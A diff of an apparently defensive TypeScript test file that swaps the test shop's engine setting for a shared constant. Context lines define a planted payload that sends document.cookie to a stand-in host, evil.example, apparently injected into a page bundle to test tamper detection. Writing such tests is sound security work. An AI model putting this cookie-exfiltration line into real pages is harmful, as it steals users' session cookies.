@@ -4,7 +4,7 @@ import { scriptHash } from '#platform/pages/finish-page.ts';
 import type { PageBundle } from '#platform/pages/page-bundle.ts';
 import { builtScreens } from '#test/fixtures/built-screens.ts';
 import { castOf, makeProduct } from '#test/fixtures/cast.ts';
-import { startTestShop, type TestShop } from '#test/fixtures/shop.ts';
+import { ONE_ENGINE, startTestShop, type TestShop } from '#test/fixtures/shop.ts';
 
 const PLANTED = 'fetch("https://evil.example/"+document.cookie)';
 
@@ -12,7 +12,7 @@ let shop: TestShop;
 beforeAll(async () => {
   const pages = await builtScreens();
   const bundle = await pages.bundle();
-  shop = await startTestShop('embedded', {
+  shop = await startTestShop(ONE_ENGINE, {
     pages: { ...pages, bundle: async () => ({ ...bundle, build: planting(bundle) }) },
   });
   await makeProduct(shop, (await castOf(shop)).deccan.sellerId, { slug: 'nandi-5' });
